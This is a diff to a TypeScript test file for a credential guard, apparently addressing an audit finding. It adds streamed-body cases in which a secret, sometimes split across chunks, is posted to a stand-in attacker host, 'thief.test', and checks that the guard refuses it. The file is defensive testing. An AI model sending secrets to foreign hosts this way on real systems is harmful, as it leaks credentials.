@@ -17,10 +17,17 @@ const only = (origin: string): HostChecks => {
 /** A client that checks the first hop, as the real one does. */
 function aClient() {
   const sent: HttpRequest[] = [];
+  const streamed: Uint8Array[] = [];
   const http: HttpClient = {
     async request(request) {
       request.authentication?.assertAllowed?.(request);
       sent.push(request);
+      const { body } = request;
+      try {
+        if (typeof body === 'object' && 'open' in body) for await (const chunk of await body.open()) streamed.push(chunk);
+      } catch (cause) {
+        throw new Error('the connection failed', { cause });
+      }
       return { status: 200, statusText: '', headers: {}, body: new Uint8Array(), url: request.url };
     },
     async stream(request, _signal, read) {
@@ -28,8 +35,14 @@ function aClient() {
     },
     guard: {} as HttpClient['guard'],
   };
-  return { http, sent };
+  return { http, sent, streamed };
 }
+
+const streamOf = (chunks: readonly Uint8Array[]) => ({
+  async *open() {
+    yield* chunks;
+  },
+});
 
 /** The code of the refusal of a request; `undefined` if it was sent. */
 async function refusal(request: Partial<HttpRequest>, held = [only('https://home.test')]): Promise<string | undefined> {
@@ -51,6 +64,8 @@ describe('finding 6: a secret that a node puts into a request', () => {
     ['the name of a header', { headers: { [encodeURIComponent(secret)]: '1' } }],
     ['a Basic header', { headers: { authorization: `Basic ${Buffer.from(`ann:${secret}`).toString('base64')}` } }],
     ['a text', { body: JSON.stringify({ a: { b: secret } }) }],
+    ['a stream', { body: streamOf([Buffer.from(`${'x'.repeat(65_530)}${secret}`)]) }],
+    ['a stream of single bytes', { body: streamOf(Array.from(Buffer.from(secret), (byte) => Uint8Array.of(byte))) }],
     ['bytes', { body: Buffer.from(`${'x'.repeat(262_140)}${secret}`) }],
   ])('in %s is refused for a host that its credential does not allow', async (_, request) => {
     expect(await refusal(request)).toBe('CREDENTIAL_HOST_NOT_ALLOWED');
@@ -81,4 +96,25 @@ test('requests keep their own authentication and its checks', async () => {
   await expect(refused).rejects.toMatchObject({ code: 'CREDENTIAL_HOST_NOT_ALLOWED' });
   await expect(client.stream({ ...request, url: 'https://thief.test' }, signal, async () => 1)).rejects.toBeDefined();
   expect(credentials.guarded(http)).toBe(client);
+});
+
+test('finding 6: of a streamed body with a secret, nothing of the secret is sent', async () => {
+  const { http, streamed } = aClient();
+  const credentials = new HandedOutCredentials();
+  credentials.add('c', secret, only('https://home.test'));
+  const before = Buffer.alloc(200_000, 'x');
+  const body = streamOf([before, Buffer.from(secret.slice(0, 5)), Buffer.from(secret.slice(5)), before]);
+  const sending = credentials.guarded(http).request({ method: 'POST', url: 'https://thief.test/', body }, signal);
+  await expect(sending).rejects.toMatchObject({ code: 'CREDENTIAL_HOST_NOT_ALLOWED' });
+  expect(Buffer.concat(streamed).toString()).toMatch(/^x+$/);
+});
+
+test.each([0, 1, 65_535, 65_536, 65_537, 500_000])('a streamed body of %d bytes arrives unchanged', async (size) => {
+  const { http, streamed } = aClient();
+  const credentials = new HandedOutCredentials();
+  credentials.add('c', secret, only('https://home.test'));
+  const bytes = Buffer.from(Array.from({ length: size }, (_, at) => at % 251));
+  const chunks = Array.from({ length: Math.ceil(size / 9_999) }, (_, at) => bytes.subarray(at * 9_999, (at + 1) * 9_999));
+  await credentials.guarded(http).request({ method: 'POST', url: 'https://thief.test/', body: streamOf(chunks) }, signal);
+  expect(Buffer.concat(streamed).equals(bytes)).toBe(true);
 });
